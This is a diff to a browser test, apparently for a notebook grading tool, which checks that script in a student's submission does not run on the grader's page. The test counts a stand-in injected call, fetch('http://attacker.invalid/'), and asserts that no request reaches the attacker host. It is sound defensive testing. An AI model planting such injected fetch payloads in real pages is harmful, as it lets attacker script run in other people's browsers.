@@ -223,11 +223,11 @@ def test_nothing_of_a_student_s_runs_on_the_page_to_grade_on(
         page.goto(lab.address())
         page.goto(f"{lab.address().partition('/lab')[0]}/formgrader/submissions/{identity}/?index=0")
         sync_api.expect(page.get_by_role("spinbutton").first).to_be_visible()
-        assert page.locator("#notebook").inner_text().count("fetch('http://attacker.invalid/')") > 50
-        page.evaluate("for (const one of document.querySelectorAll('#notebook a')) one.click()")
+        assert page.locator("#notebook").first.inner_text().count("fetch('http://attacker.invalid/')") > 50
+        page.evaluate("document.querySelectorAll('#notebook a:not([href^=http])').forEach((one) => one.click())")
         page.wait_for_timeout(500)
         assert page.evaluate("window.owned || 0") == 0
-        assert [one for one in page.evaluate(HANDLERS) if "toggle_name" not in one] == []
+        assert [one for one in page.evaluate(HANDLERS) if "=toggle" not in one] == []
         assert [url for url in asked if "attacker" in url] == []
         page.close()
 
